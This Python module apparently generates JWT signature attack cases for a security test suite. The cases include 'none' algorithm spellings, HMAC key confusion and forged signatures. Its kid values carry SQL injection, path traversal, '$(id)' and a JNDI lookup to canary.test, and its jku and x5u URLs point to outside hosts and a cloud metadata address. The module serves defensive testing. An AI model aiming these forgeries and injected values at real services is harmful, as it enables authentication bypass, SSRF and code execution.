"""Attacks on the signature: algorithms, secrets, keys and where keys are said to be.

Each is (weakness that it is made for, name, changes of a good token).
"""

from ci.judges.token_keys import SECRETS

_ELSEWHERE = "https://canary.test"


def algorithms(kind):
    for spelling in ("none", "None", "NONE", "nOnE", "nonE", "none ", " none", "non\u0000e", "none\u0000", "", "null"):
        for how in ("one zero", "trusted", "zeros"):
            yield "none is an algorithm", f"alg {spelling!r} {how}", [["header", "alg", spelling], ["sign", how]]
    for alg in ("none", "RS256"):
        yield "a token without a signature is good", f"alg {alg}, nothing behind the last dot", [
            ["header", "alg", alg], ["sign", "nothing"]]
        yield "a token without a signature is good", f"alg {alg}, no last dot", [
            ["header", "alg", alg], ["after signing", "drop part"]]
    for secret in SECRETS:
        for size in (256, 384, 512):
            changes = [["header", "alg", f"HS{size}"], ["sign", f"hs{size} with {secret}"]]
            yield f"an HMAC may be keyed with {secret}", f"HS{size} with {secret}", changes
    for secret in ("the public key", "the key in DER", "nothing"):
        yield f"an HMAC may be keyed with {secret}", f"RS256 said, HMAC with {secret} done", [["sign", f"hs256 with {secret}"]]
    for way in ("rs384", "rs512", "ps256", "ps384", "ps512", "rs1"):
        yield "all algorithms of RSA are good", f"alg {way}, as it should be", [
            ["header", "alg", way.upper()], ["sign", way]]
        yield "paddings and hashes are tried out", f"RS256 said, {way} done", [["sign", way]]
        yield "the algorithm in the header is overlooked", f"alg {way}, RS256 done", [["header", "alg", way.upper()]]
    for alg in ("rs256", "Rs256", "RS256 ", " RS256", "RS256\u0000", "RSA256", "SHA256withRSA", "RS-256", "dir", "A256GCM",
                "RSA-OAEP", "RSA1_5", "PBES2-HS256+A128KW", "EdDSA", "ES256", "ES512", "HS256", "ES256K", "", "*", 1, True, None,
                ["RS256"], {"RS256": 1}):
        yield "the algorithm in the header is overlooked", f"alg {alg!r}, RS256 done", [["header", "alg", alg]]
    yield "the algorithm in the header is overlooked", "no alg", [["no header", "alg"]]
    yield "the algorithm in the header is overlooked", "alg under another name", [["no header", "alg"], ["header", "ALG", "RS256"]]
    yield "the algorithm in the header is overlooked", "PBES2 that never ends", [
        ["header", "alg", "PBES2-HS512+A256KW"], ["header", "p2c", 2147483647], ["header", "p2s", "AAAAAAAA"]]
    for how in ("foreign", "zeros", "ones", "one zero", "es384", "the message", "the digest", "zeros for es256", "zeros for es384"):
        yield "signatures are not checked", f"RS256 said, {how} done", [["sign", how]]
    for change in (["flip signature"], ["claim", "jti", "another"], ["claim", "exp", "{now+900}"], ["claim", "groups", ["S3CatalogReader", "x"]]):
        yield "signatures are not checked", f"after signing: {' '.join(map(str, change))}", [["after signing", *change]]


def curves(kind):
    """Only AWS signs with a key on a curve as well."""
    if kind != "aws":
        for alg in ("ES256", "ES384", "ES512"):
            yield "signatures are not checked", f"{alg} of zeros", [["header", "alg", alg], ["sign", f"zeros for {alg.lower()}"]]
        yield "signatures are not checked", "ES384 by a key on a curve", [["header", "alg", "ES384"], ["sign", "es384"]]
        return
    named = ["header", "kid", "EC384_0"]
    for alg in ("ES256", "ES384", "ES512"):
        yield "ECDSA takes zeros", f"{alg} of zeros", [["header", "alg", alg], named, ["sign", f"zeros for {alg.lower()}"]]
    for alg in ("ES256", "ES512", "es384", "RS256", "EdDSA", "HS384", None):
        yield "the algorithm in the header is overlooked", f"alg {alg}, ES384 done", [["header", "alg", alg], named, ["sign", "es384"]]
    yield "ECDSA signatures may be DER", "ES384 in DER", [["header", "alg", "ES384"], named, ["sign", "es384 in DER"]]
    yield "signatures are not checked", "ES384 by another", [["header", "alg", "ES384"], named, ["sign", "es384 foreign"]]
    yield "the algorithm chooses the key", "ES384 under the name of the RSA key", [["header", "alg", "ES384"], ["sign", "es384"]]
    yield "the algorithm chooses the key", "RS256 under the name of the curve", [named]
    yield "the algorithm chooses the key", "ES384 under the name of IAS's key", [
        ["header", "alg", "ES384"], ["header", "kid", "k1"], ["sign", "es384"]]


def key_names(kind):
    own = "RSA_0" if kind == "aws" else "k1"
    loose = (own.upper(), own.lower(), f"{own} ", f" {own}", f"{own}\u0000", f"{own}\u0000x", f"../{own}", f"/{own}", f"./{own}",
             f"{own}'--", f"{own}' OR '1'='1", f"{own}|id", f"${own}", f'"{own}"', f"{own},x", f"{own};x", f"{own}\n")
    for name in loose:
        if name != own:
            yield "names of keys are compared loosely", f"kid {name!r}", [["header", "kid", name]]
    for name in ("k2", "0", "*", "", "undefined", "null", "__proto__", "constructor", "toString", "/dev/null", "../../../../etc/passwd",
                 "$(id)", "${jndi:ldap://canary.test/x}", "https://canary.test/kid", "a" * 257, "a" * 6000, 0, 1, None, True,
                 [own], {own: 1}, own.encode().hex()):
        yield "any key of the issuer will do", f"kid {str(name)[:40]!r}", [["header", "kid", name]]
    yield "any key of the issuer will do", "no kid", [["no header", "kid"]]
    yield "any key of the issuer will do", "kid under another name", [["no header", "kid"], ["header", "KID", own]]
    for name in ("/dev/null", "../../../../dev/null"):
        changes = [["header", "kid", name], ["header", "alg", "HS256"], ["sign", "hs256 with nothing"]]
        yield "names of keys are files", f"kid {name}, HMAC with what is in it", changes
    for name in ("k2", "https://canary.test/jwks"):
        yield "signatures are not checked", f"kid {name}, signed by another", [["header", "kid", own], ["header", "k", name], ["sign", "foreign"]]


def key_places(kind):
    """Keys that the token brings along or leads to; every one is somebody else's."""
    for name, weakness in (("jku", "jku is followed"), ("x5u", "x5u is followed"), ("iss", "an issuer in the header is followed")):
        for place in (f"{_ELSEWHERE}/{name}", "http://canary.test/k", "//canary.test/k", "https://tenant.accounts.test@canary.test/k",
                      "https://canary.test/.well-known/jwks.json", "https://authentication.landscape.test/redirect?to=https://canary.test/k",
                      "https://tenant.accounts.test/redirect?to=https://canary.test/k", "http://127.0.0.1/k", "file:///dev/null",
                      "http://169.254.169.254/latest/meta-data/"):
            yield weakness, f"{name} {place}", [["header", name, place], ["sign", "foreign"]]
    yield "a key in the token is taken", "jwk, an RSA key", [["jwk", "foreign"], ["sign", "foreign"]]
    yield "a key in the token is taken", "jwk, an RSA key of another name", [["jwk", "foreign under another name"], ["sign", "foreign"]]
    yield "a key in the token is taken", "jwk, an RSA key, no kid", [["jwk", "foreign"], ["no header", "kid"], ["sign", "foreign"]]
    yield "a key in the token is taken", "jwk, a curve", [
        ["jwk", "foreign on a curve"], ["header", "alg", "ES384"], ["sign", "es384 foreign"]]
    yield "a key in the token is taken", "jwk, a secret", [
        ["jwk", "a secret"], ["header", "alg", "HS256"], ["sign", "hs256 with a guess"]]
    yield "a certificate in the token is taken", "x5c", [["x5c"], ["sign", "foreign"]]
    yield "a certificate in the token is taken", "x5c, no kid", [["x5c"], ["no header", "kid"], ["sign", "foreign"]]
    for name in ("x5t", "x5t#S256"):
        yield "signatures are not checked", name, [["header", name, "AAAA"], ["sign", "foreign"]]


def header_members(kind):
    for name, values in (("crit", ([], ["exp"], ["b64"], ["x"], "x", None)), ("b64", (False, True, "false", None)),
                         ("zip", ("DEF", "", None)), ("enc", ("A256GCM", "", None))):
        for value in values:
            yield f"{name} is overlooked", f"{name} {value!r}", [["header", name, value]]
    for typ in ("logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "oauth-authz-req+jwt", "JWE", "JOSE", "JWS", "at",
                "id+jwt", "application/jwt", "application/at+jwt", "JWT ", "", 1, None, ["JWT"], {"JWT": 1}):
        yield "typ is overlooked", f"typ {typ!r}", [["header", "typ", typ]]
    for cty in ("JWT", "jwt", "application/jwt", 1, None, ["JWT"]):
        yield "cty is overlooked", f"cty {cty!r}", [["header", "cty", cty]]


FAMILIES = (algorithms, curves, key_names, key_places, header_members)
